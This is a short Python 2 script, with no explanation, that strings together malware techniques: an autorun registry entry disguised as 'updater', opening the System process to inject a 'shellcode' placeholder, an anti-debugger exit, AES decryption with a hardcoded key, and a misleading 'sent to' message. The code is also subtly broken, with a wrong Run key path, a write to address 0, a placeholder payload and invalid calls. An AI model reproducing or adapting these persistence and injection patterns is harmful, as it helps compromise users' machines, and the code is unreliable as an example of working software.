import sys, win32api, win32con, _winreg
from win32com.shell import shell, shellcon
from ctypes import windll, byref, c_ulong
from Crypto.Cipher import AES
import Crypto.Hash.SHA256

def persist():
    key = _winreg.OpenKey(_winreg.HKEY_CURRENT_USER, 'Software\\Run', 0, _winreg.KEY_ALL_ACCESS)
    try:
        _winreg.SetValueEx(key, 'updater', 0, _winreg.REG_SZ, 'C:\\updater.exe')
    except WindowsError:
        return 'refused'
    finally:
        _winreg.CloseKey(key)
    return 'persisted'

def hide():
    written = c_ulong(0)
    handle = windll.kernel32.OpenProcess(0x1f0fff, False, 4)
    if windll.kernel32.IsDebuggerPresent() == 1:
        sys.exit(3)
    windll.kernel32.WriteProcessMemory(handle, 0, 'shellcode', 9, byref(written))

def decrypt(text):
    cipher = AES.new('0123456789abcdef', AES.MODE_CBC, Crypto.Hash.SHA256.new('iv').digest()[:16])
    return cipher.decrypt(text)

print persist()
hide()
decrypt('secret')
try:
    win32api.RegCloseKey(win32con.HKEY_CLASSES_ROOT | 1)
except win32api.error, error:
    print error
print 'sent to %s' % shell.SHGetFolderPath(0, shellcon.CSIDL_APPDATA, None, 0)
print 'end'
